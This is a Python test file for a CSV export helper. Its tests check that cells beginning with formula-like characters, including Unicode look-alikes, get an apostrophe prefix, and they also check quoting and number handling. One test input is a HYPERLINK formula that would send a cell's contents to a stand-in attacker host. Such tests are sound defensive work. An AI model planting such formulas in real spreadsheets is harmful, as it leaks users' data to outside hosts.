import csv
import io
from collections.abc import Sequence
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callweave.web.tables import BYTE_ORDER_MARK, Cell, csv_lines, guarded


def written(*rows: Sequence[Cell], bom: bool = False) -> str:
    return "".join(csv_lines(["a", "b"], rows, bom=bom))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+442079460123",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        '"=1+1',
        "\u201c=1+1",
        '" =1+1',
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM",
        "\ufe661",
        "\N{MINUS SIGN}1",
        "\x00=1+1",
        "'=1+1",
        "'tis",
        "\tplain",
    ],
)
def test_text_that_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "google", "a=b", "1+1", "50 %", "(020) 7946", "\u05e9\u05dc\u05d5\u05dd", '"quoted"'],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text())
def test_taking_one_apostrophe_away_gives_back_what_was_stored(text: str) -> None:
    assert guarded(text).removeprefix("'") == text


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_a_reader_of_rfc_4180_finds_the_same_cells(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(written(*rows), newline=""), strict=True))
    assert [[cell.removeprefix("'") for cell in row] for row in read[1:]] == rows


def test_numbers_stay_numbers_even_below_zero() -> None:
    assert written([-5, Decimal("-0.333333")]) == "a,b\r\n-5,-0.333333\r\n"


def test_nothing_is_an_empty_cell() -> None:
    assert written([None, "x"]) == "a,b\r\n,x\r\n"


def test_commas_quotes_and_line_ends_stay_inside_their_cell() -> None:
    assert written(['say "hi", then', "two\r\nlines"]).endswith(
        '"say ""hi"", then","two\r\nlines"\r\n'
    )


@pytest.mark.parametrize(("bom", "start"), [(True, BYTE_ORDER_MARK + "a"), (False, "a")])
def test_a_byte_order_mark_is_written_when_asked_for(*, bom: bool, start: str) -> None:
    assert written(bom=bom).startswith(start)
